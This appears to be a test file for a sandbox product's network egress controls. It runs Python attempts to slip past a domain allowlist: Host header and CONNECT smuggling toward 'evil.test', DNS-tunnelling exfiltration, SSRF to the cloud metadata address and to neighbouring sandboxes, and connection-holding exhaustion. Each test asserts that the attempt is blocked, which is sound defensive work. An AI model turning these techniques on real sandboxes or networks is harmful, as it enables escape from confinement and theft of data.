import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { Sandbox } from '@skerry/sdk';
import { afterAll, beforeAll, expect } from 'vitest';
import { atEachLevelAlone } from './attack.ts';
import { addresses, type OutsideLab, startOutsideLab } from './outside.ts';
import { attackers, runPython } from './run-python.ts';

const nameServers = readFileSync(new URL('name-servers.py', import.meta.url), 'utf8');

/** Functions of the programs below; `came` has what each attempt came to. */
const tools = `
import errno, json, socket, ssl, struct
came = {}
def attempt(name, act):
    try: came[name] = act()
    except socket.timeout: came[name] = "timeout"
    except OSError as error: came[name] = errno.errorcode.get(error.errno, str(error))
def tcp(address, port, *pieces):
    s = socket.create_connection((address, port), 4)
    for piece in pieces: s.sendall(piece)
    s.settimeout(4)
    received = b""
    try:
        while part := s.recv(4096): received += part
    except socket.timeout: pass
    return received.decode("latin1")
def udp(address, port, data, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(2)
    s.connect((address, port)); s.send(data)
    return s.recv(4096).hex()
def head(host, target="/"): return f"GET {target} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode()
def query(name, kind): return b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(l)]) + l for l in name.encode().split(b".")) + b"\\0" + struct.pack(">HH", kind, 1)
def lookup(name): return sorted({one[4][0] for one in socket.getaddrinfo(name, 80, socket.AF_INET)})
def tls(name, address):
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(socket.create_connection((address, 443), 4), server_hostname=name).recv(10).hex()
`;

atEachLevelAlone(({ level, attack }) => {
  let folder: string;
  let lab: OutsideLab;
  let arrived: string[] = [];
  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'skerry-names-'));
    const resolvConf = join(folder, 'resolv.conf');
    writeFileSync(resolvConf, 'nameserver 1.2.3.53\n');
    const mount = 'mount --bind "$1" /etc/resolv.conf; shift; exec "$@"';
    lab = await startOutsideLab(level, {
      through: ['unshare', '--mount', 'sh', '-c', mount, 'sh', resolvConf],
      more: ['1.2.3.5', '1.2.3.53', '6.6.6.6', '8.8.8.8'],
    });
    createInterface({ input: await lab.startOutside(nameServers) }).on('line', (line) => arrived.push(line));
  });
  afterAll(async () => {
    await lab?.[Symbol.asyncDispose]();
    rmSync(folder, { recursive: true });
  });

  const create = (): Promise<Sandbox> =>
    Sandbox.create({
      ...lab.network.client.connection,
      network: { deny: ['0.0.0.0/0'], allow: ['api.example.com', '*.example.com', '9.9.9.9'] },
      timeoutMs: 300_000,
    });
  /** Runs a program as each user inside, and returns what its attempts came to and what arrived outside meanwhile. */
  const run = async (sandbox: Sandbox, program: string) => {
    arrived = [];
    const came: Record<string, unknown>[] = [];
    for (const user of attackers)
      came.push(
        JSON.parse(await runPython(sandbox, user, `${tools}${program}\nprint(json.dumps(came))`)) as Record<
          string,
          unknown
        >,
      );
    return { came, arrived };
  };

  attack(
    'reaching another server under an allowed name: by server name, Host, a second request or a whole address',
    'the gateway: a connection reaches an address that DNS has for its name, and each request must say that name',
    async () => {
      await using sandbox = await create();
      const { came, arrived: seen } = await run(
        sandbox,
        `
attempt("allowed", lambda: tcp("1.2.3.5", 443, head("api.example.com"))[:12])
attempt("host", lambda: tcp("1.2.3.5", 443, head("evil.test"))[9:12])
attempt("second", lambda: tcp("1.2.3.5", 443, head("api.example.com"), head("evil.test"))[-60:])
attempt("absolute", lambda: tcp("1.2.3.5", 443, head("api.example.com", "http://evil.test/"))[9:12])
attempt("both", lambda: tcp("1.2.3.5", 443, b"GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nHost: evil.test\\r\\n\\r\\n")[9:12])
attempt("connect", lambda: tcp("1.2.3.5", 443, b"CONNECT evil.test:443 HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n"))
attempt("address", lambda: tcp("6.6.6.6", 443, head("api.example.com"))[9:12])
attempt("forged", lambda: tls("api.example.com", "6.6.6.6"))
attempt("other", lambda: tls("evil.test", "1.2.3.5"))
attempt("nameless", lambda: tls(None, "1.2.3.5"))`,
      );
      for (const found of came) {
        expect(found).toMatchObject({
          allowed: 'HTTP/1.1 204',
          host: '403',
          absolute: '403',
          address: '403',
        });
        expect(found.both).toMatch(/^40[03]$/);
      }
      const hosts = seen.filter((line) => line.startsWith('host'));
      expect(new Set(hosts)).toEqual(new Set(['host Host: api.example.com']));
      const bytes = seen.filter((line) => /^(accepted|tcp)/.test(line)).map((line) => line.slice(0, 26));
      expect(new Set(bytes)).toEqual(new Set(['accepted 443 1.2.3.5', "tcp 443 1.2.3.5 b'GET / HT"]));
    },
  );

  attack(
    'sending data out in DNS past rules by name: in names, types of records, other name servers, TCP and TLS',
    'the resolver of the gateway, which asks for addresses of allowed names alone, and rules of nftables',
    async () => {
      await using sandbox = await create();
      const { arrived: seen } = await run(
        sandbox,
        `
long = ".".join(["a" * 60] * 3)
attempt("allowed", lambda: lookup("api.example.com"))
attempt("name", lambda: lookup(long + ".evil.test"))
for kind in [1, 5, 10, 16, 28, 64, 65, 255]:
    attempt(f"evil {kind}", lambda: udp("1.2.3.53", 53, query("data.evil.test", kind)))
    if kind != 1: attempt(f"allowed {kind}", lambda: udp("1.2.3.53", 53, query("data.example.com", kind)))
attempt("tcp", lambda: tcp("1.2.3.53", 53, struct.pack(">H", 32) + query("data.evil.test", 16)))
attempt("other", lambda: udp("8.8.8.8", 53, query("api.example.com", 1)))
attempt("other tcp", lambda: tcp("8.8.8.8", 53, b"data"))
attempt("dot", lambda: tcp("1.2.3.53", 853, b"data"))
attempt("doh", lambda: tls("api.example.com", "8.8.8.8"))`,
      );
      expect(new Set(seen)).toEqual(new Set(['dns api.example.com 1']));
    },
  );

  attack(
    'leaving rules by name by UDP, QUIC, IPv6, another port or a protocol that says no name',
    'rules of nftables, and the gateway, which passes on TLS and HTTP alone',
    async () => {
      await using sandbox = await create();
      const { arrived: seen } = await run(
        sandbox,
        `
attempt("quic", lambda: udp("1.2.3.5", 443, b"data"))
attempt("ntp", lambda: udp("1.2.3.5", 123, b"data"))
attempt("port", lambda: tcp("1.2.3.5", 8443, b"data"))
attempt("ipv6", lambda: udp("2606:4700::1111", 443, b"data", socket.AF_INET6))
attempt("socks", lambda: tcp("1.2.3.5", 443, bytes([5, 1, 0])))
attempt("ssh", lambda: tcp("1.2.3.5", 443, b"SSH-2.0-a\\r\\n"))
attempt("h2", lambda: tcp("1.2.3.5", 80, b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"))`,
      );
      expect(seen).toEqual([]);
    },
  );

  attack(
    'naming the host, a neighbour, a metadata service or another sandbox by a name that rules allow',
    'the gateway, which takes no closed address from DNS, and rules of nftables',
    async () => {
      const [sandbox, other] = await Promise.all([create(), create()]);
      await other.commands.run('python3 -m http.server 80 --directory /usr', {
        background: true,
        user: 'root',
      });
      const { came } = await run(
        sandbox,
        `
for name, address in [("host", "${addresses.server}"), ("neighbour", "${addresses.neighbour}"), ("metadata", "169.254.169.254"), ("sandbox", "10.201.0.2")]:
    attempt(name, lambda: lookup(name + ".example.com"))
    attempt(name + " http", lambda: tcp(address, 80, head(name + ".example.com"))[:12])`,
      );
      for (const found of came)
        for (const [name, what] of Object.entries(found))
          expect([name, String(what)]).not.toEqual([name, expect.stringMatching(/HTTP|^\d+\./)]);
      await Promise.all([sandbox.kill(), other.kill()]);
    },
  );

  attack(
    'holding the gateway for names with hellos and heads that come in pieces and never end',
    'bounds of bytes, of records and of time for what a connection begins with',
    async () => {
      const [sandbox, other] = await Promise.all([create(), create()]);
      const holding = run(
        sandbox,
        `
import select, time
hello = bytes([22, 3, 1, 0x3f, 0, 1, 0, 0xff, 0xff])
held = {}
for begin in [b"", hello, hello + bytes(16000), bytes([22, 3, 1, 0, 1, 1]) * 200, b"GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nA: "]:
    for _ in range(40):
        s = socket.create_connection(("1.2.3.5", 443), 4); s.sendall(begin) if begin else None; held[s.fileno()] = s
until = time.monotonic() + 40
while held and time.monotonic() < until:
    for one in select.select(list(held.values()), [], [], 1)[0]:
        try: data = one.recv(4096)
        except OSError: data = b""
        if not data: del held[one.fileno()]; one.close()
came["held"] = len(held)`,
      );
      const meanwhile = await run(
        other,
        'attempt("allowed", lambda: tcp("1.2.3.5", 80, head("api.example.com"))[:12])',
      );
      for (const found of meanwhile.came) expect(found).toEqual({ allowed: 'HTTP/1.1 204' });
      for (const found of (await holding).came) expect(found).toEqual({ held: 0 });
      await Promise.all([sandbox.kill(), other.kill()]);
    },
  );
});
